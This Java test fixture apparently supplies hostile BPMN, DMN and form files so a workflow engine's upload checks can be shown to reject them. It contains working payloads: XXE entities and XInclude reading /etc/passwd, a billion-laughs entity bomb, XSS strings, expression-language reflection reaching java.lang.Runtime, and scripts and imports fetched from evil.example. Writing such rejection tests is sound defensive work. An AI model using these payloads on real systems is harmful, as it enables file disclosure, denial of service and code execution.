package no.krisesenter.engine;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Files that somebody could try to bring in, by what is wrong with each. Each would be taken by the stock engine, or crash it. */
final class EvilModels {

    private static final String ECHO = "no.krisesenter.engine.Marker$Smuggled";

    private EvilModels() {}

    /** A file. */
    record Evil(String file, byte[] content) {

        static Evil of(String file, String text) {
            return new Evil(file, text.getBytes(StandardCharsets.UTF_8));
        }
    }

    static Map<String, Evil> all() {
        var all = new LinkedHashMap<String, Evil>();
        steps().forEach((name, step) -> all.put(name, process(step)));
        all.put("a document type", Evil.of("evil.bpmn", "<!DOCTYPE d>" + definitions("<bpmn:startEvent id='a'/>")));
        all.put(
                "an entity from a file",
                Evil.of(
                        "evil.bpmn",
                        "<!DOCTYPE d [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                                + definitions("<bpmn:documentation>&e;</bpmn:documentation>")));
        all.put(
                "a billion laughs",
                Evil.of(
                        "evil.bpmn",
                        "<!DOCTYPE d [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]>"
                                + definitions("<bpmn:documentation>&c;</bpmn:documentation>")));
        all.put(
                "an include",
                process("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"));
        all.put("a case model", Evil.of("evil.cmmn", "<cmmn/>"));
        all.put("a script file", Evil.of("evil.groovy", "println 1"));
        all.put("a page", Evil.of("evil.html", "<script>alert(1)</script>"));
        all.put("an archive", new Evil("evil.bar", new byte[] {'P', 'K', 3, 4}));
        all.put("a table in another language", table("expressionLanguage='groovy'", "1"));
        all.put("a table in JUEL", table("expressionLanguage='juel'", "${marker.sing()}"));
        all.put(
                "a table that calls Java",
                table(
                        "",
                        "function(x) external { java: { class: \"java.lang.Runtime\", method signature: \"getRuntime()\" } }"));
        all.put(
                "a table with an entity",
                Evil.of(
                        "evil.dmn",
                        "<!DOCTYPE d [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                                + new String(table("", "&e;").content(), StandardCharsets.UTF_8)));
        all.put(
                "a table that imports",
                Evil.of(
                        "evil.dmn",
                        new String(table("", "1").content(), StandardCharsets.UTF_8)
                                .replace(
                                        "<decision ",
                                        "<import namespace='x' locationURI='http://evil.example/x.dmn' importType='x'/><decision ")));
        all.put("a form of nobody", form("evil.form-of-nobody", "{\"type\":\"textfield\",\"key\":\"a\",\"id\":\"f\"}"));
        all.put(
                "a form with a page from elsewhere",
                form("late-task.follow-up", "{\"type\":\"iframe\",\"url\":\"https://evil.example\",\"id\":\"f\"}"));
        all.put(
                "a form with markup",
                form(
                        "late-task.follow-up",
                        "{\"type\":\"html\",\"content\":\"<img src=x onerror=alert(1)>\",\"id\":\"f\"}"));
        all.put(
                "a form with a file",
                form("late-task.follow-up", "{\"type\":\"filepicker\",\"key\":\"a\",\"id\":\"f\"}"));
        all.put("a form that is none", Evil.of("evil.form", "not JSON"));
        return all;
    }

    /** What stands in a process. */
    private static Map<String, String> steps() {
        var steps = new LinkedHashMap<String, String>();
        steps.put(
                "a script task",
                "<bpmn:scriptTask id='evil' scriptFormat='juel'><bpmn:script>${marker.sing()}</bpmn:script></bpmn:scriptTask>");
        steps.put(
                "a script in JavaScript",
                "<bpmn:scriptTask id='evil' scriptFormat='javascript' camunda:resource='classpath://x.js'/>");
        steps.put(
                "a script from outside",
                "<bpmn:scriptTask id='evil' scriptFormat='groovy' camunda:resource='http://evil.example/x.groovy'/>");
        steps.put("a Java class", "<bpmn:serviceTask id='evil' camunda:class='" + ECHO + "'/>");
        steps.put(
                "a Java class in the old namespace",
                "<bpmn:serviceTask id='evil' xmlns:activiti='http://activiti.org/bpmn' activiti:class='" + ECHO
                        + "'/>");
        steps.put("a delegate", "<bpmn:serviceTask id='evil' camunda:delegateExpression='${marker}'/>");
        steps.put("an external task", "<bpmn:serviceTask id='evil' camunda:type='external' camunda:topic='x'/>");
        steps.put("a mail", "<bpmn:serviceTask id='evil' camunda:type='mail'/>");
        steps.put(
                "a connector",
                service(
                        "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"));
        steps.put("an execution listener", service("<camunda:executionListener class='" + ECHO + "' event='start'/>"));
        steps.put(
                "a listener with a script",
                service(
                        "<camunda:executionListener event='start'><camunda:script scriptFormat='juel'>${marker.sing()}</camunda:script></camunda:executionListener>"));
        steps.put("a task listener", user("<camunda:taskListener class='" + ECHO + "' event='create'/>"));
        steps.put(
                "a form in the model",
                user(
                        "<camunda:formData><camunda:formField id='a' type='string' defaultValue='${marker.sing()}'/></camunda:formData>"));
        steps.put("an embedded form", "<bpmn:userTask id='evil' name='Ord' camunda:formKey='embedded:app:evil.html'/>");
        steps.put(
                "an input from a script",
                service(
                        "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:script scriptFormat='juel'>${marker.sing()}</camunda:script></camunda:inputParameter></camunda:inputOutput>"));
        steps.put(
                "an output that calculates",
                service(
                        "<camunda:inputOutput><camunda:outputParameter name='a'>${''.getClass().forName('java.io.File')}</camunda:outputParameter></camunda:inputOutput>"));
        steps.put(
                "a bean that is not for models",
                "<bpmn:serviceTask id='evil' camunda:expression='${dataSource.getConnection()}'/>");
        steps.put(
                "a method that every object has",
                "<bpmn:serviceTask id='evil' camunda:expression='${marker.getClass()}'/>");
        steps.put("a chain of calls", "<bpmn:serviceTask id='evil' camunda:expression='${marker.sing().getClass()}'/>");
        steps.put(
                "reflection",
                "<bpmn:serviceTask id='evil' camunda:expression=\"${''.getClass().forName('java.lang.Runtime').getRuntime()}\"/>");
        steps.put("a variable in the name of a task", "<bpmn:userTask id='evil' name='Ring ${alias}'/>");
        steps.put(
                "a variable in the words to a task",
                "<bpmn:userTask id='evil' name='Ord'><bpmn:documentation>${marker.sing()}</bpmn:documentation></bpmn:userTask>");
        steps.put(
                "a condition in a script",
                "<bpmn:exclusiveGateway id='a'/><bpmn:task id='b'/><bpmn:sequenceFlow id='evil' sourceRef='a' targetRef='b'><bpmn:conditionExpression xsi:type='bpmn:tFormalExpression' language='juel'>${marker.sing()}</bpmn:conditionExpression></bpmn:sequenceFlow>");
        steps.put(
                "a condition that calls",
                "<bpmn:exclusiveGateway id='a'/><bpmn:task id='b'/><bpmn:sequenceFlow id='evil' sourceRef='a' targetRef='b'><bpmn:conditionExpression xsi:type='bpmn:tFormalExpression'>${empty marker.class}</bpmn:conditionExpression></bpmn:sequenceFlow>");
        steps.put(
                "a call that maps by a class",
                "<bpmn:callActivity id='evil' calledElement='closure' camunda:variableMappingClass='" + ECHO + "'/>");
        steps.put(
                "all variables handed on",
                "<bpmn:callActivity id='evil' calledElement='closure'><bpmn:extensionElements><camunda:in variables='all'/></bpmn:extensionElements></bpmn:callActivity>");
        steps.put("a call that calculates", "<bpmn:callActivity id='evil' calledElement='${marker.sing()}'/>");
        steps.put(
                "a timer that calculates",
                "<bpmn:intermediateCatchEvent id='evil'><bpmn:timerEventDefinition><bpmn:timeDuration>${marker.class.name}</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>");
        steps.put(
                "a message whose name calculates", "<bpmn:intermediateCatchEvent id='evil' name='${marker.sing()}'/>");
        return steps;
    }

    private static String service(String extension) {
        return "<bpmn:serviceTask id='evil' camunda:expression='${marker.sing()}'><bpmn:extensionElements>" + extension
                + "</bpmn:extensionElements></bpmn:serviceTask>";
    }

    private static String user(String extension) {
        return "<bpmn:userTask id='evil' name='Ord'><bpmn:extensionElements>" + extension
                + "</bpmn:extensionElements></bpmn:userTask>";
    }

    private static Evil process(String step) {
        return Evil.of("evil.bpmn", definitions("<bpmn:startEvent id='start'/>" + step));
    }

    private static String definitions(String content) {
        return "<bpmn:definitions xmlns:bpmn='http://www.omg.org/spec/BPMN/20100524/MODEL' xmlns:camunda='http://camunda.org/schema/1.0/bpmn'"
                + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' id='d' targetNamespace='x'>"
                + "<bpmn:process id='evil-process' isExecutable='true' camunda:historyTimeToLive='P1D'>" + content
                + "</bpmn:process></bpmn:definitions>";
    }

    private static Evil table(String attribute, String cell) {
        return Evil.of(
                "evil.dmn",
                "<definitions xmlns='https://www.omg.org/spec/DMN/20191111/MODEL/' xmlns:camunda='http://camunda.org/schema/1.0/dmn' id='d' name='d' namespace='x'>"
                        + "<decision id='evil' name='Ond' camunda:historyTimeToLive='P1D'><decisionTable id='t'><input id='i'><inputExpression id='ie' typeRef='string'><text>a</text></inputExpression></input>"
                        + "<output id='o' name='o' typeRef='string'/><rule id='r'><inputEntry id='x'><text></text></inputEntry><outputEntry id='y' "
                        + attribute + "><text>" + cell
                        + "</text></outputEntry></rule></decisionTable></decision></definitions>");
    }

    private static Evil form(String id, String part) {
        return Evil.of(
                id + ".form",
                "{\"type\":\"default\",\"id\":\"" + id + "\",\"schemaVersion\":16,\"components\":[" + part + "]}");
    }
}
